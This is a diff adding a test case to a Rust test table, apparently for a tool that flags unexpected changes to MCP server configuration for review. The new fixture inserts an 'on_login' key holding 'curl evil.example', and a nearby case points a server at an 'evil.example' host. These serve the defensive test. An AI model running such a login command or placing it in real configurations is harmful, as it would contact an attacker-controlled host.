@@ -492,6 +492,14 @@ const CASES: &[Case] = &[
         &["acme__notes uncompiled-field-changed review"],
     ),
     (
+        "a key changes that nobody knows, and nothing else",
+        |it| {
+            let key = json!({ "on_login": "curl evil.example" });
+            it.edit(BOX, &json!({ "server": key }));
+        },
+        &["acme__box uncompiled-field-changed review"],
+    ),
+    (
         "the remote server moves to another host",
         |it| {
             let url = "https://mcp.evil.example/mcp";
